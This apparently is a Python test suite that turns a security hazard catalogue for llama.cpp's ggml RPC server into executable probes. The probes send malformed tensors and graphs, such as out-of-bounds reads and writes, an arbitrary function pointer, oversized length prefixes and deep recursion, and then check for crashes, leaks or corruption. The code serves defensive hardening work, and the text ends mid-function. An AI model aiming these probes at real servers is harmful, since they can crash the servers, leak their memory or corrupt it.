"""The hazard catalogue as executable probes (spec/hazards.md).

Each :class:`Probe` sends one known attack to a server and records what it observed.  The
suite (``test_hazards.py``) runs every probe in a fresh connection, against a fresh server
process when it can start one, and then classifies the outcome:

========  ==============================================================================
safe      the server refused (closed the connection) or answered harmlessly, is alive,
          answers a fresh connection, and nothing leaked or changed
crash     the process died (the signal is reported) or stops answering new connections
hang      the server neither answered nor closed within the deadline, or starved
          another client
leak      bytes from outside the tensor came back (canary patterns of a neighbouring
          buffer seen in a GET_TENSOR reply), or real process addresses were disclosed
corrupt   a neighbouring canary buffer was modified
memory    memory (or the hash cache's disk) grew far beyond what the client was granted
========  ==============================================================================

``upstream`` is what llama.cpp 0.3.36's ``ggml-rpc-server`` (protocol 7.0.0) does, verified
against that build; the suite checks it still does when run with ``--peer llama.cpp``.
"""

from __future__ import annotations

import enum
import select
import socket
import struct
import time
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

from refimpl.protocol import messages as m
from refimpl.protocol.connection import hello_request
from refimpl.protocol.constants import Command
from refimpl.hashing import fnv1a_64
from refimpl.protocol.tensor import RpcTensor, contiguous_strides

from support import Closed, NoAnswer, Target, Wire, frame

# ggml numbers of protocol 7.0.0 used by the probes
F32, F16, Q4_0, Q8_0, I32, I64 = 0, 1, 2, 8, 26, 27
REMOVED_TYPES = (4, 5, 31, 32, 33, 36, 37, 38)
OP_NONE, OP_ADD, OP_MUL_MAT, OP_MUL_MAT_ID, OP_CPY, OP_GET_ROWS, OP_SET_ROWS, OP_CUSTOM = 0, 2, 29, 30, 34, 40, 42, 95
OP_ADD_ID = 3
OP_SSM_SCAN, OP_GATED_DELTA_NET = 77, 86
OP_SET = 33
FLAG_COMPUTE = 16
MIB = 1 << 20

GHSA = "https://github.com/ggml-org/llama.cpp/security/advisories/"
ISSUE = "https://github.com/ggml-org/llama.cpp/issues/"
PR = "https://github.com/ggml-org/llama.cpp/pull/"
CATALOGUE = "spec/hazards.md#"


class Outcome(str, enum.Enum):
    """What a probe found, in decreasing order of severity after SAFE."""

    SAFE = "safe"
    CRASH = "crash"
    CORRUPT = "corrupt"
    LEAK = "leak"
    MEMORY = "memory"
    HANG = "hang"

    def __str__(self):
        return self.value


_SEVERITY = [Outcome.CRASH, Outcome.CORRUPT, Outcome.LEAK, Outcome.MEMORY, Outcome.HANG,
             Outcome.SAFE]


class Unobservable(Exception):
    """The probe cannot judge this target (e.g. it needs the server's process or cache)."""


# ----------------------------------------------------------------------------------------------
# what a probe works with
# ----------------------------------------------------------------------------------------------

def T(id: int = 0, type: int = F32, buffer: int = 0, data: int = 0, ne=(1, 1, 1, 1), nb=None,
      op: int = 0, op_params=(), flags: int = 0, src=(), view_src: int = 0, view_offs: int = 0,
      name: bytes = b"", use_count: int = 0) -> RpcTensor:
    """An rpc_tensor with any field values; ``nb`` defaults to contiguous strides."""
    ne = tuple(ne) + (1,) * (4 - len(ne))
    if nb is None:
        nb = contiguous_strides(type, ne)
    params = tuple(op_params) + (0,) * (16 - len(op_params))
    return RpcTensor(id=id, type=type, buffer=buffer, ne=ne, nb=tuple(nb), op=op,
                     op_params=params, flags=flags, src=tuple(src) + (0,) * (10 - len(src)),
                     view_src=view_src, view_offs=view_offs, data=data, name=name,
                     use_count=use_count)


def f32(*values) -> bytes:
    """Little-endian float32 values."""
    return struct.pack(f"<{len(values)}f", *values)


@dataclass
class Canary:
    """A neighbouring buffer filled with a recognisable pattern."""

    handle: int
    base: int
    data: bytes

    def tensor(self, size: int | None = None) -> RpcTensor:
        """The whole canary as an I8 tensor (or its first ``size`` bytes)."""
        n = size or len(self.data)
        return T(type=24, buffer=self.handle, data=self.base, ne=(n,), nb=(1, n, n, n))


def canary_bytes(size: int, seed: int = 0) -> bytes:
    """A pattern no server produces by accident: 8-byte words 'CANRY' + counter."""
    words = [b"CNRY" + struct.pack("<I", 0x5A000000 + seed * 4096 + i) for i in range(size // 8)]
    return b"".join(words)[:size].ljust(size, b"\xa5")


class ProbeContext:
    """Connections, canaries and observations for one probe run."""

    def __init__(self, target: Target, answer_timeout: float = 5.0, knows_timeouts: bool = False):
        self.target = target
        self.answer_timeout = answer_timeout
        #: The target was started with short idle/read timeouts (feature "timeouts").
        self.knows_timeouts = knows_timeouts
        self.findings: list[tuple[Outcome, str]] = []
        self.notes: list[str] = []
        self._wires: list[Wire] = []
        self._canary_seed = 0

    # -- connections ----------------------------------------------------------------------------
    def connect(self, hello: bool = True, timeout: float | None = None) -> Wire:
        """A new connection (HELLO done unless ``hello=False``), closed with RST at the end."""
        w = Wire(self.target.address, timeout=timeout or self.answer_timeout, hello=False,
                 profile=self.target.profile)
        self._wires.append(w)  # registered first: even a failed HELLO ends in a reset
        if hello:
            w.call(hello_request())
        return w

    def raw(self, timeout: float | None = None) -> socket.socket:
        """A plain TCP connection (no HELLO), closed with RST at the end."""
        s = socket.create_connection(self.target.address, timeout=timeout or self.answer_timeout)
        w = Wire.__new__(Wire)
        w.sock = s
        self._wires.append(w)
        return s

    def close_all(self) -> None:
        """Reset every connection the probe opened (a reset cannot trigger SIGPIPE later)."""
        for w in self._wires:
            w.close(reset=True)
        self._wires.clear()

    # -- observations ---------------------------------------------------------------------------
    def note(self, text: str) -> None:
        """Something worth reporting that is not a finding."""
        self.notes.append(text)

    def flag(self, outcome: Outcome, detail: str) -> None:
        """Record an unsafe observation."""
        self.findings.append((outcome, detail))

    def canary(self, w: Wire, size: int = 64) -> Canary:
        """Allocate a buffer on ``w`` and fill it with a canary pattern."""
        self._canary_seed += 1
        handle, base = w.alloc(size)
        c = Canary(handle, base, canary_bytes(size, self._canary_seed))
        w.set_tensor(c.tensor(), c.data)
        return c

    def check_intact(self, w: Wire, c: Canary, what: str) -> None:
        """Flag CORRUPT if the canary changed (a closed connection means nothing happened)."""
        try:
            now = w.call(m.GetTensorRequest(c.tensor(), 0, len(c.data)))
        except Closed:
            self.note("connection closed before the canary could be read back")
            return
        if now != c.data:
            changed = sum(a != b for a, b in zip(now, c.data))
            self.flag(Outcome.CORRUPT, f"{what}: {changed} canary byte(s) of a neighbouring "
                                       f"buffer changed")

    def check_leak(self, data: bytes, c: Canary, what: str) -> None:
        """Flag LEAK if any 8-byte word of the canary appears in ``data``."""
        words = {c.data[i:i + 8] for i in range(0, len(c.data) - 7, 8)}
        hits = sum(1 for i in range(0, len(data) - 7) if data[i:i + 8] in words)
        if hits:
            self.flag(Outcome.LEAK, f"{what}: {hits} word(s) of a neighbouring buffer's canary "
                                    f"came back")

    def memory_growth(self, since: int | None) -> int | None:
        """Current resident memory minus ``since`` (None when not observable)."""
        now = self.target.rss_bytes()
        return None if now is None or since is None else now - since

    def expect_closed_or_answer(self, w: Wire, what: str) -> bool:
        """After a request without a reply: True if the connection still answers, False if
        the server closed it; flags HANG if neither happens in time."""
        try:
            return w.answers()
        except NoAnswer:
            self.flag(Outcome.HANG, f"{what}: no answer and no close within "
                                    f"{self.answer_timeout:g}s")
            return False


@dataclass(frozen=True)
class Probe:
    """One executable hazard probe."""

    id: str
    title: str
    source: str                       # link to the advisory, issue, PR or catalogue entry
    rule: str                         # the spec rule that closes it
    run: Callable[[ProbeContext], None]
    upstream: Outcome                 # llama.cpp 0.3.36, verified
    upstream_detail: str = ""
    #: Target features the probe needs: "cache" (hash cache in a suite-chosen directory),
    #: "timeouts" (short idle/read timeouts so the probe need not wait for defaults).
    needs: tuple = ()
    #: How much the server's memory may grow during the probe before it counts as MEMORY.
    allowance: int = 256 * MIB
    #: Needs the server's process (memory, address map): unobservable for --server targets.
    needs_process: bool = False


PROBES: list[Probe] = []


def probe(id, title, source, rule, upstream, upstream_detail="", **kw):
    """Register a probe function."""
    def deco(fn):
        """Add ``fn`` to PROBES."""
        PROBES.append(Probe(id, title, source, rule, fn, Outcome(upstream), upstream_detail, **kw))
        return fn
    return deco


# ----------------------------------------------------------------------------------------------
# running one probe
# ----------------------------------------------------------------------------------------------

@dataclass
class Result:
    """A probe's classified outcome."""

    probe: Probe
    outcome: Outcome
    detail: str
    notes: list = field(default_factory=list)
    seconds: float = 0.0


def execute(p: Probe, target: Target, *, answer_timeout: float = 5.0,
            knows_timeouts: bool = False) -> Result:
    """Run ``p`` against ``target`` and classify what happened."""
    if p.needs_process and target.proc is None:
        raise Unobservable(f"{p.id} needs the server's process (memory or address map); "
                           f"it cannot be judged over --server")
    ctx = ProbeContext(target, answer_timeout, knows_timeouts)
    peak0 = target.peak_rss_bytes()
    t0 = time.monotonic()
    try:
        p.run(ctx)
    except Unobservable:
        raise
    except Closed as exc:
        ctx.note(f"the server closed the connection ({exc})")
    except NoAnswer as exc:
        ctx.flag(Outcome.HANG, f"no answer and no close: {exc}")
    except (socket.timeout, TimeoutError) as exc:
        ctx.flag(Outcome.HANG, f"timed out: {exc}")
    except OSError as exc:
        ctx.note(f"socket error: {exc}")
    finally:
        ctx.close_all()
    seconds = time.monotonic() - t0

    # Did the process survive, and does it still serve a fresh connection?
    proc = target.proc
    if proc is not None:
        for _ in range(10):
            if proc.poll() is not None:
                break
            time.sleep(0.05)
    if proc is not None and proc.poll() is not None:
        ctx.flag(Outcome.CRASH, f"server process {target.exit_description()}")
    elif not target.alive(timeout=answer_timeout):
        if proc is not None and proc.poll() is not None:
            ctx.flag(Outcome.CRASH, f"server process {target.exit_description()}")
        else:
            ctx.flag(Outcome.HANG, "the server stopped answering new connections")
    peak1 = target.peak_rss_bytes()
    if peak0 is not None and peak1 is not None and peak1 - peak0 > p.allowance:
        ctx.flag(Outcome.MEMORY, f"peak memory grew by {(peak1 - peak0) / MIB:.0f} MiB "
                                 f"(allowance {p.allowance / MIB:.0f} MiB)")

    if not ctx.findings:
        return Result(p, Outcome.SAFE, "; ".join(ctx.notes) or "refused or harmless",
                      ctx.notes, seconds)
    worst = min(ctx.findings, key=lambda f: _SEVERITY.index(f[0]))
    detail = "; ".join(d for o, d in ctx.findings if o == worst[0])
    return Result(p, worst[0], detail, ctx.notes, seconds)


# ----------------------------------------------------------------------------------------------
# the probes
# ----------------------------------------------------------------------------------------------

def _buffer(ctx: ProbeContext, size: int = 64):
    w = ctx.connect()
    handle, base = w.alloc(size)
    return w, handle, base


def _two_buffers(w: Wire, size: int = 64):
    """Two buffers (first, second) with second above first in the server's address space."""
    a = w.alloc(size)
    b = w.alloc(size)
    return (a, b) if b[1] > a[1] else (b, a)


# -- the data pointer and bounds ---------------------------------------------------------------

@probe("H1", "SET_TENSOR with data outside its buffer (write-what-where)",
       GHSA + "GHSA-wcr5-566p-9cwj", "spec/tensor.md#placement", "crash",
       "GGML_ASSERT in deserialize_tensor: SIGABRT")
def p_set_data_outside(ctx):
    w, h, base = _buffer(ctx)
    c = ctx.canary(w)
    w.set_tensor(T(buffer=h, data=c.base if c.base > base else base + 0x10000, ne=(4,)),
                 b"\x41" * 16)
    if ctx.expect_closed_or_answer(w, "SET_TENSOR outside the buffer"):
        ctx.check_intact(w, c, "SET_TENSOR aimed at another buffer")


@probe("H2", "GET_TENSOR with data outside its buffer (read-what-where)",
       GHSA + "GHSA-5vm9-p64x-gqw9", "spec/tensor.md#placement", "crash",
       "GGML_ASSERT in deserialize_tensor: SIGABRT")
def p_get_data_outside(ctx):
    w, h, base = _buffer(ctx)
    c = ctx.canary(w)
    data = w.call(m.GetTensorRequest(T(buffer=h, data=c.base, ne=(16,)), 0, 64))
    ctx.check_leak(data, c, "GET_TENSOR aimed at another buffer")


@probe("H3", "type beyond the type table (0x100) in GET_TENSOR",
       GHSA + "GHSA-mqp6-7pv6-fqjf", "spec/tensor.md#validity", "safe",
       "checked since b3561: clean close")
def p_type_out_of_table(ctx):
    w, h, base = _buffer(ctx)
    for t in (0x100, 0xFFFFFFFF):
        try:
            w.call(m.GetTensorRequest(T(type=t, buffer=h, data=base, ne=(4,), nb=(4, 16, 16, 16)),
                                      0, 4))
            ctx.note(f"type {t:#x} answered")
        except Closed:
            w = ctx.connect()
            h, base = w.alloc(64)


@probe("H4", "type = GGML_TYPE_COUNT (43) in SET_TENSOR",
       ISSUE + "13067", "spec/tensor.md#validity", "safe", "fixed by PR #13069: clean close")
def p_type_count(ctx):
    w, h, base = _buffer(ctx)
    w.set_tensor(T(type=43, buffer=h, data=base, ne=(4,), nb=(4, 16, 16, 16)), b"A" * 16)
    ctx.expect_closed_or_answer(w, "SET_TENSOR of type 43")


@probe("H5", "zero dimension with a payload (nbytes 0)",
       ISSUE + "9799", "spec/tensor.md#placement", "crash",
       "ggml_backend_tensor_set asserts offset+size <= nbytes: SIGABRT")
def p_zero_dim(ctx):
    w, h, base = _buffer(ctx)
    w.set_tensor(T(buffer=h, data=base, ne=(4, 0, 1, 1), nb=(4, 16, 16, 16)), b"A" * 4)
    ctx.expect_closed_or_answer(w, "SET_TENSOR into a zero-size tensor")


@probe("H6", "removed types with block size 0 (division by zero)",
       PR + "20712", "spec/tensor.md#validity", "safe", "rejected: clean close")
def p_removed_types(ctx):
    for t in REMOVED_TYPES:
        w, h, base = _buffer(ctx)
        w.set_tensor(T(type=t, buffer=h, data=base, ne=(32,), nb=(1, 32, 32, 32)), b"A" * 16)
        if ctx.expect_closed_or_answer(w, f"SET_TENSOR of removed type {t}"):
            ctx.note(f"type {t} accepted")


@probe("H7", "graph tensor with buffer 0 and a wild data pointer (CVE-2026-34159)",
       GHSA + "GHSA-j8rj-fmpv-wcxw", "spec/graph.md#checks", "safe",
       "rejected since PR #20908: clean close")
def p_nullbuf_graph(ctx):
    w, h, base = _buffer(ctx)
    c = ctx.canary(w)
    src = T(id=1, buffer=h, data=base, ne=(4,))
    w.set_tensor(src, f32(1, 2, 3, 4))
    dst = T(id=2, buffer=0, data=c.base, ne=(4,), op=OP_CPY, src=(1,), flags=FLAG_COMPUTE)
    w.graph_compute([2], [src, dst])
    if ctx.expect_closed_or_answer(w, "graph with buffer 0 and data set"):
        ctx.check_intact(w, c, "CPY into buffer 0 / data = another buffer")


@probe("H8", "ne[0] not a multiple of the block size (Q4_0, ne[0] = 1)",
       ISSUE + "25288", "spec/tensor.md#validity", "safe",
       "release build: no check, answered (debug builds abort)")
def p_ne0_not_block_multiple(ctx):
    w, h, base = _buffer(ctx)
    data = w.call(m.GetTensorRequest(T(type=Q4_0, buffer=h, data=base, ne=(1,),
                                       nb=(18, 18, 18, 18)), 0, 0))
    ctx.note(f"GET_TENSOR of size 0 answered with {len(data)} bytes")


@probe("H9", "CUSTOM op carrying a function pointer (0x414141414141)",
       ISSUE + "25289", "spec/graph-ops.md#common-rules", "crash",
       "calls the pointer: SIGSEGV")
def p_custom_op(ctx):
    w, h, base = _buffer(ctx)
    fun = 0x414141414141
    params = struct.unpack("<2i", struct.pack("<Q", fun)) + (1, 0, 0, 0)
    w.graph_compute([1], [T(id=1, buffer=h, data=base, ne=(4,), op=OP_CUSTOM, op_params=params,
                            flags=FLAG_COMPUTE)])
    ctx.expect_closed_or_answer(w, "CUSTOM op")


@probe("H10", "COPY_TENSOR of a large source into a small destination (heap overflow)",
       "https://github.com/ggml-org/ggml/pull/1103", "spec/commands.md#copy_tensor-9", "safe",
       "checked since the fix: clean close")
def p_copy_overflow(ctx):
    w = ctx.connect()
    s, sbase = w.alloc(256)
    d, dbase = w.alloc(64)
    c = ctx.canary(w)
    w.set_tensor(T(type=24, buffer=s, data=sbase, ne=(256,), nb=(1, 256, 256, 256)), b"\x42" * 256)
    reply = w.call(m.CopyTensorRequest(T(buffer=s, data=sbase, ne=(64,)),
                                       T(buffer=d, data=dbase + 60, ne=(1,))))
    ctx.note(f"COPY_TENSOR answered {reply.result}")
    ctx.check_intact(w, c, "COPY_TENSOR past the destination buffer")


@probe("H11", "GET_ROWS with src1 batches beyond src0 (out-of-bounds read)",
       ISSUE + "26825", "spec/ops/get_rows.md", "leak",
       "reads src0 + i11*nb02: the neighbouring buffer comes back")
def p_get_rows_oob(ctx):
    w = ctx.connect()
    (a, abase), (v, vbase) = _two_buffers(w)
    c = Canary(v, vbase, canary_bytes(64, 7))
    w.set_tensor(c.tensor(), c.data)
    delta = vbase - abase
    src0 = T(id=10, buffer=a, data=abase, ne=(4,), nb=(4, 16, delta, delta))
    ids = T(id=11, type=I32, buffer=a, data=abase + 16, ne=(1, 2, 1, 1), nb=(4, 4, 8, 8))
    dst = T(id=12, buffer=a, data=abase + 32, ne=(4, 1, 2, 1), nb=(4, 16, 16, 32),
            op=OP_GET_ROWS, src=(10, 11), flags=FLAG_COMPUTE)
    w.set_tensor(T(type=I32, buffer=a, data=abase + 16, ne=(2,)), struct.pack("<2i", 0, 0))
    w.graph_compute([12], [src0, ids, dst])
    out = w.call(m.GetTensorRequest(T(buffer=a, data=abase + 32, ne=(8,)), 0, 32))
    ctx.check_leak(out, c, "GET_ROWS result")


@probe("H12", "SET_ROWS with src0 batches beyond dst (out-of-bounds write)",
       ISSUE + "26912", "spec/ops/set_rows.md", "corrupt",
       "writes dst + i02*nb2: the neighbouring buffer is overwritten")
def p_set_rows_oob(ctx):
    w = ctx.connect()
    (d, dbase), (v, vbase) = _two_buffers(w)
    c = Canary(v, vbase, canary_bytes(64, 8))
    w.set_tensor(c.tensor(), c.data)
    delta = vbase - dbase
    src0 = T(id=20, buffer=d, data=dbase + 16, ne=(4, 1, 2, 1))
    idx = T(id=21, type=I64, buffer=d, data=dbase + 48, ne=(1,))
    dst = T(id=22, buffer=d, data=dbase, ne=(4,), nb=(4, 16, delta, delta), op=OP_SET_ROWS,
            src=(20, 21), flags=FLAG_COMPUTE)
    w.set_tensor(T(buffer=d, data=dbase + 16, ne=(8,)), f32(1, 2, 3, 4, 41, 42, 43, 44))
    w.set_tensor(T(type=I64, buffer=d, data=dbase + 48, ne=(1,)), struct.pack("<q", 0))
    w.graph_compute([22], [src0, idx, dst])
    if ctx.expect_closed_or_answer(w, "SET_ROWS graph"):
        ctx.check_intact(w, c, "SET_ROWS")


@probe("H33", "GET_ROWS with more indices than dst has rows (out-of-bounds write)",
       PR + "25542", "spec/ops/get_rows.md", "corrupt",
       "writes dst + i*nb1 for every index: the neighbouring buffer is overwritten")
def p_get_rows_oob_write(ctx):
    w = ctx.connect()
    (d, dbase), (v, vbase) = _two_buffers(w)
    c = Canary(v, vbase, canary_bytes(64, 9))
    w.set_tensor(c.tensor(), c.data)
    delta = vbase - dbase
    rows = T(id=30, buffer=d, data=dbase + 16, ne=(4, 2, 1, 1))
    ids = T(id=31, type=I32, buffer=d, data=dbase + 48, ne=(2, 1, 1, 1))
    # dst claims one row (ne[1] = 1 leaves nb[1] out of its size) but receives two
    dst = T(id=32, buffer=d, data=dbase, ne=(4, 1, 1, 1), nb=(4, delta, delta, delta),
            op=OP_GET_ROWS, src=(30, 31), flags=FLAG_COMPUTE)
    w.set_tensor(T(buffer=d, data=dbase + 16, ne=(8,)), f32(1, 2, 3, 4, 41, 42, 43, 44))
    w.set_tensor(T(type=I32, buffer=d, data=dbase + 48, ne=(2,)), struct.pack("<2i", 0, 1))
    w.graph_compute([32], [rows, ids, dst])
    if ctx.expect_closed_or_answer(w, "GET_ROWS graph"):
        ctx.check_intact(w, c, "GET_ROWS")


@probe("H13", "graph node id 0 (a NULL node)",
       ISSUE + "25299", "spec/graph.md#checks", "crash", "NULL dereference: SIGSEGV")
def p_node_id0(ctx):
    w = ctx.connect()
    w.graph_compute([0], [])
    ctx.expect_closed_or_answer(w, "graph with node id 0")


@probe("H14", "ADD node without sources",
       PR + "13167", "spec/graph-ops.md#common-rules", "crash", "NULL src dereference: SIGSEGV")
def p_missing_src(ctx):
    w, h, base = _buffer(ctx)
    w.graph_compute([1], [T(id=1, buffer=h, data=base, ne=(4,), op=OP_ADD, flags=FLAG_COMPUTE)])
    ctx.expect_closed_or_answer(w, "ADD without sources")


@probe("H15", "op number beyond the op table (0xFFFF)",
       CATALOGUE + "h15", "spec/graph-ops.md#common-rules", "crash",
       "GGML_ABORT while planning: SIGABRT")
def p_op_out_of_range(ctx):
    w, h, base = _buffer(ctx)
    w.graph_compute([1], [T(id=1, buffer=h, data=base, ne=(4,), op=0xFFFF, flags=FLAG_COMPUTE)])
    ctx.expect_closed_or_answer(w, "op 0xFFFF")


@probe("H16", "GRAPH_RECOMPUTE after FREE_BUFFER (use after free)",
       PR + "24292", "spec/graph.md#storing-and-recomputing", "safe",
       "stored graphs dropped on FREE_BUFFER: clean close")
def p_recompute_after_free(ctx):
    w, h, base = _buffer(ctx)
    w.graph_compute([1], [T(id=1, buffer=h, data=base, ne=(4,), op=OP_NONE)])
    w.call(m.FreeBufferRequest(h))
    w.call(m.GraphRecomputeRequest(0))
    ctx.expect_closed_or_answer(w, "GRAPH_RECOMPUTE after FREE_BUFFER")


@probe("H17", "MUL_MAT_ID with an expert id out of range (op kernels trusting index data)",
       PR + "27286", "spec/graph-ops.md#common-rules", "crash",
       "unchecked id indexes the work buffer: SIGSEGV")
def p_mul_mat_id_bad_expert(ctx):
    # 2 experts of 2x4 (src0), 1 token with 1 expert used (src1), out 2x1
    _bad_expert_id(ctx, OP_MUL_MAT_ID, (4, 2, 2, 1), (4, 1, 1, 1), (2, 1, 1, 1))


def _bad_expert_id(ctx, op, ne0, ne1, ne_dst):
    """One ``op`` node (src0, src1, ids) whose single expert id is 0x3FFFFFFF."""
    w, h, base = _buffer(ctx, 256)
    src0 = T(id=1, buffer=h, data=base, ne=ne0)
    src1 = T(id=2, buffer=h, data=base + 64, ne=ne1)
    ids = T(id=3, type=I32, buffer=h, data=base + 96, ne=(1, 1, 1, 1))
    dst = T(id=4, buffer=h, data=base + 128, ne=ne_dst, op=op, src=(1, 2, 3), flags=FLAG_COMPUTE)
    w.set_tensor(T(type=I32, buffer=h, data=base + 96, ne=(1,)), struct.pack("<i", 0x3FFFFFFF))
    w.graph_compute([4], [src0, src1, ids, dst])
    name = {OP_MUL_MAT_ID: "MUL_MAT_ID", OP_ADD_ID: "ADD_ID"}[op]
    ctx.expect_closed_or_answer(w, f"{name} with expert id 0x3FFFFFFF")


@probe("H17a", "ADD_ID with an expert id out of range (a per-expert bias row)",
       PR + "27286", "spec/ops/moe.md", "crash",
       "the CPU kernel asserts the id: SIGABRT")
def p_add_id_bad_expert(ctx):
    # 1 token with 1 expert used (src0), biases of 2 experts (src1)
    _bad_expert_id(ctx, OP_ADD_ID, (4, 1, 1, 1), (4, 2, 1, 1), (4, 1, 1, 1))


@probe("H17b", "SET whose op_params view (nb1, offset) writes before dst (negative offset)",
       ISSUE + "25764", "spec/ops/elementwise.md#acc-and-set", "corrupt",
       "offset -d and nb1 +d pass the kernel's unsigned bound check: row 0 lands d bytes "
       "before dst, in the neighbouring buffer")
def p_set_negative_offset(ctx):
    w = ctx.connect()
    (lo, lbase), (hi, hbase) = _two_buffers(w)
    c = Canary(lo, lbase, canary_bytes(64, 11))
    w.set_tensor(c.tensor(), c.data)
    delta = hbase - lbase
    if not 0 < delta < 2**31:
        raise Unobservable(f"the two buffers are {delta:#x} bytes apart, beyond an int32 offset")
    src0 = T(id=40, buffer=hi, data=hbase + 16, ne=(4,))
    src1 = T(id=41, buffer=hi, data=hbase + 32, ne=(4, 2))
    # the view: src1's 2 rows at dst + offset + i1*nb1 = dst - delta (the canary) and dst
    params = struct.unpack("<5i", struct.pack("<iiiii", delta, delta, delta, -delta, 1))
    dst = T(id=42, buffer=hi, data=hbase, ne=(4,), op=OP_SET, op_params=params, src=(40, 41),
            flags=FLAG_COMPUTE)
    w.set_tensor(T(buffer=hi, data=hbase + 32, ne=(8,)), f32(1, 2, 3, 4, 5, 6, 7, 8))
    w.graph_compute([42], [src0, src1, dst])
    if ctx.expect_closed_or_answer(w, "SET graph"):
        ctx.check_intact(w, c, "SET with a negative offset")


@probe("H17c", "GATED_DELTA_NET whose K (op_params[0]) exceeds the snapshots dst holds",
       ISSUE + "25704", "spec/ops/recurrent.md", "corrupt",
       "the kernel writes K state snapshots from dst's state area on, whatever dst's size: "
       "7 states land past dst, over the neighbouring canary")
def p_gated_delta_net_k(ctx):
    # S_v 4, one head, 8 tokens, one sequence: dst (4, 8 + 1·4) holds one state (K = 1), the
    # node asks for K = 64; a canary follows dst in the same buffer
    s_v, n_t = 4, 8
    w, h, base = _buffer(ctx, 2048)
    tok = (s_v, 1, n_t, 1)
    srcs = [T(id=1, buffer=h, data=base, ne=tok), T(id=2, buffer=h, data=base + 128, ne=tok),
            T(id=3, buffer=h, data=base + 256, ne=tok),
            T(id=4, buffer=h, data=base + 384, ne=(1, 1, n_t, 1)),
            T(id=5, buffer=h, data=base + 416, ne=(1, 1, n_t, 1)),
            T(id=6, buffer=h, data=base + 448, ne=(s_v, s_v, 1, 1))]
    w.set_tensor(T(buffer=h, data=base, ne=(128,)), f32(*([0.25] * 128)))
    dst = T(id=7, buffer=h, data=base + 512, ne=(s_v, n_t + s_v), op=OP_GATED_DELTA_NET,
            op_params=(64,), src=(1, 2, 3, 4, 5, 6), flags=FLAG_COMPUTE)
    c = Canary(h, base + 512 + 192, canary_bytes(512, 17))
    w.set_tensor(c.tensor(), c.data)
    w.graph_compute([7], srcs + [dst])
    if ctx.expect_closed_or_answer(w, "GATED_DELTA_NET with K = 64"):
        ctx.check_intact(w, c, "GATED_DELTA_NET with K = 64")


@probe("H17d", "SSM_SCAN with a sequence id out of range (index data selecting a state)",
       ISSUE + "25765", "spec/graph-ops.md#common-rules", "crash",
       "the id scales src0's ne[3] stride unchecked: a read 16 GiB away, SIGSEGV")
def p_ssm_scan_bad_id(ctx):
    # Mamba-1 shapes: d_state 4, one channel, one token, one sequence whose id is 0x3FFFFFFF
    w, h, base = _buffer(ctx, 256)
    srcs = [T(id=1, buffer=h, data=base, ne=(4, 1, 1, 1)),          # s
            T(id=2, buffer=h, data=base + 16, ne=(1, 1, 1, 1)),     # x
            T(id=3, buffer=h, data=base + 20, ne=(1, 1, 1)),        # dt
            T(id=4, buffer=h, data=base + 32, ne=(4, 1)),           # A
            T(id=5, buffer=h, data=base + 48, ne=(4, 1, 1, 1)),     # B
            T(id=6, buffer=h, data=base + 64, ne=(4, 1, 1, 1)),     # C
            T(id=7, type=I32, buffer=h, data=base + 80, ne=(1,))]   # ids
    w.set_tensor(T(buffer=h, data=base, ne=(20,)), f32(*([0.5] * 20)))
    w.set_tensor(T(type=I32, buffer=h, data=base + 80, ne=(1,)), struct.pack("<i", 0x3FFFFFFF))
    dst = T(id=8, buffer=h, data=base + 96, ne=(1 + 4,), op=OP_SSM_SCAN, op_params=(1,),
            src=(1, 2, 3, 4, 5, 6, 7), flags=FLAG_COMPUTE)
    w.graph_compute([8], srcs + [dst])
    ctx.expect_closed_or_answer(w, "SSM_SCAN with sequence id 0x3FFFFFFF")


@probe("H18", "graph whose source chain is 200 000 tensors deep",
       ISSUE + "25958", "spec/graph.md#checks", "crash",
       "create_node recurses once per level: stack overflow, SIGSEGV",
       allowance=1536 * MIB)
def p_deep_chain(ctx, n: int = 200_000):
    w, h, base = _buffer(ctx)
    tensors = [T(id=i + 1, buffer=h, data=base, ne=(1,), src=(i + 2,) if i + 1 < n else ())
               for i in range(n)]
    w.timeout = max(w.timeout, 60)
    w.sock.settimeout(60)
    w.graph_compute([1], tensors)
    ctx.expect_closed_or_answer(w, f"chain of {n} tensors")


@probe("H18c", "graph with a two-tensor source cycle",
       CATALOGUE + "h18", "spec/graph.md#checks", "safe", "cycles are tolerated")
def p_cycle(ctx):
    w, h, base = _buffer(ctx)
    w.graph_compute([1, 2], [T(id=1, buffer=h, data=base, ne=(1,), src=(2,)),
                             T(id=2, buffer=h, data=base, ne=(1,), src=(1,))])
    ctx.expect_closed_or_answer(w, "cyclic graph")


@probe("H19", "length prefix 2^64-1 (SET_TENSOR and GRAPH_COMPUTE)",
       ISSUE + "25287", "spec/transport.md#length-rules", "crash",
       "vector::resize throws length_error: std::terminate, SIGABRT")
def p_length_max(ctx):
    for cmd in (Command.SET_TENSOR, Command.GRAPH_COMPUTE):
        w = ctx.connect()
        w.send_raw(struct.pack("<BQ", cmd, 2**64 - 1))
        if ctx.expect_closed_or_answer(w, f"{cmd.name} announcing 2^64-1 bytes"):
            ctx.note(f"{cmd.name}: connection still answers")
        if ctx.target.proc is not None and ctx.target.proc.poll() is not None:
            return


@probe("H20", "GRAPH_COMPUTE header announcing 2 GiB, then nothing",
       CATALOGUE + "h20", "spec/transport.md#length-rules", "memory",
       "the announced size is committed before any byte arrives (+1.6 GiB held)",
       needs_process=True)
def p_length_commit(ctx):
    w = ctx.connect()
    rss0 = ctx.target.rss_bytes()
    w.send_raw(struct.pack("<BQ", Command.GRAPH_COMPUTE, 2 << 30))
    for _ in range(30):
        time.sleep(0.1)
        grown = ctx.memory_growth(rss0)
        if grown is not None and grown > 256 * MIB:
            ctx.flag(Outcome.MEMORY, f"{grown / MIB:.0f} MiB held for a 9-byte header")
            return
        if w.closed_by_server(timeout=0.01) if _readable(w) else False:
            ctx.note("refused at once")
            return


def _readable(w: Wire) -> bool:
    r, _, _ = select.select([w.sock], [], [], 0)
    return bool(r)


@probe("H20m", "many connections each holding a large partial message",
       CATALOGUE + "h20", "docs/limits.md", "safe",
       "one client at a time: only one message is ever held",
       needs=("small-messages",), needs_process=True)
def p_many_partial_messages(ctx, n: int = 12, size: int = 12 * MIB):
    rss0 = ctx.target.rss_bytes()
    chunk = bytes(1 << 20)
    payload_head = struct.pack("<II", 0, 0) + struct.pack("<I", (size - 12) // 296)
    for i in range(n):
        try:
            w = ctx.connect(timeout=2)
        except (Closed, NoAnswer, OSError):
            ctx.note(f"connection {i} refused or queued")
            continue
        try:
            w.sock.setblocking(False)
            data = struct.pack("<BQ", Command.GRAPH_COMPUTE, size) + payload_head
            sent = 0
            deadline = time.monotonic() + 3
            todo = memoryview(data + chunk * ((size - 1 - len(payload_head)) // len(chunk)))
